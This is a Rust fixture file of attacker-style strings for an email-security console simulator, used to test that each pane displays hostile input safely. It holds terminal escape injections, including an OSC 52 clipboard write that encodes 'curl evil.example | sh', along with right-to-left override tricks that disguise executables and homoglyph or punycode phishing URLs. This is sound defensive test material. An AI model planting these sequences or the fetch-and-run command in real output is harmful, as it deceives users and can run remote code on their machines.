//! Strings an attacker would write, because attackers write subjects, display names,
//! file names and URLs. Every pane of the console must show these safely; the
//! simulator plants each of them at least once in every world (on the last day, so
//! they are in the default views) and a few more at random.

/// Subjects carrying terminal escapes, controls, bidi overrides, zero-width and
/// combining characters, wide text, and a 2,000+-character line.
pub fn subjects() -> Vec<String> {
    vec![
        // OSC 2: sets the terminal title if it reaches the terminal raw.
        "Invoice overdue \u{1b}]2;ww-title-injected\u{7} pay today".to_string(),
        // OSC 52: writes the analyst's clipboard (base64 of `curl evil.example | sh`).
        "Shared file \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} please review".to_string(),
        // CSI: clear screen and home the cursor.
        "\u{1b}[2J\u{1b}[HYour mailbox is full".to_string(),
        // SGR colours and an OSC 8 hyperlink.
        "\u{1b}[31;1mURGENT\u{1b}[0m wire \u{1b}]8;;http://evil.example/\u{1b}\\transfer\u{1b}]8;;\u{1b}\\ now".to_string(),
        // C0 controls (BEL, BS, CR) and DEL.
        "Payroll\u{7}\u{8}\u{8} update\r\u{7f} required".to_string(),
        // C1 control: single-byte CSI.
        "Action\u{9b}31m required \u{85}next line".to_string(),
        // Right-to-left override: renders as `contract exe.pdf`.
        "Signed contract \u{202e}fdp.exe".to_string(),
        // Zero-width space/joiner and a byte-order mark hide words from filters.
        "Pass\u{200b}word re\u{200d}set \u{feff}notice".to_string(),
        // Stacked combining marks.
        "Z\u{337}\u{322}\u{31b}a\u{338}l\u{335}g\u{336}o\u{334} security notice".to_string(),
        // Wide CJK and emoji.
        "請確認您的帳戶 — 账户验证 🔒📧 アカウント確認".to_string(),
        // A subject far longer than any column.
        format!("RE: FW: {}end", "Please review the attached remittance and confirm. ".repeat(42)),
    ]
}

/// Sender display names.
pub const DISPLAY_NAMES: &[&str] = &[
    "Microsoft 365 \u{1b}[1mSecurity\u{1b}[0m",
    "IT Help\u{202e}ksed",
    "CEO\u{200b} Office",
    "Службa поддержки",
    "\u{1b}]2;ww-title-injected\u{7}Payroll",
];

/// Attachment names: the classic RLO trick, a hidden double extension, wide text.
pub const FILE_NAMES: &[&str] = &[
    "invoice\u{202e}fdp.exe",
    "report\u{1b}[8m.pdf.exe",
    "scan\u{200b}.pdf.html",
    "発注書_2026.zip",
];

/// URLs: punycode and homoglyph hosts, an escape sequence in the path, a zero-width
/// character in a host.
pub const URLS: &[&str] = &[
    "https://xn--micrsoft-0ya.com/owa/auth/login",
    "https://сontosо.com/owa/?login=1",
    "http://evil.example/\u{1b}]2;ww-title-injected\u{7}/payload",
    "https://login.micros\u{200b}oft.com.evil.example/common/oauth2",
];
